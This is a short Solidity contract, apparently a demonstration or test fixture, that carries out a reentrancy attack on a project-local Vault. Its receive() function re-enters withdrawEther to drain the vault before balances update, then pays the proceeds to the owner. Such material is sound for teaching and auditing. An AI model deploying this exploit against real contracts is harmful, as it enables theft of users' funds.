// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {Vault} from "./Vault.sol";

/// Takes out of the vault, again and again, the one deposit it made: each payment calls back in
/// before the vault has booked it.
contract ReentrancyAttacker {
    Vault private immutable _vault;
    address payable private immutable _owner;
    uint256 private _stake;

    constructor(Vault vault) {
        _vault = vault;
        _owner = payable(msg.sender);
    }

    function attack() external payable {
        require(msg.sender == _owner, "not yours");
        _stake = msg.value;
        _vault.depositEther{value: msg.value}();
        _vault.withdrawEther(msg.value);
        (bool paid,) = _owner.call{value: address(this).balance}("");
        require(paid, "payment refused");
    }

    receive() external payable {
        if (address(_vault).balance >= _stake) {
            _vault.withdrawEther(_stake);
        }
    }
}
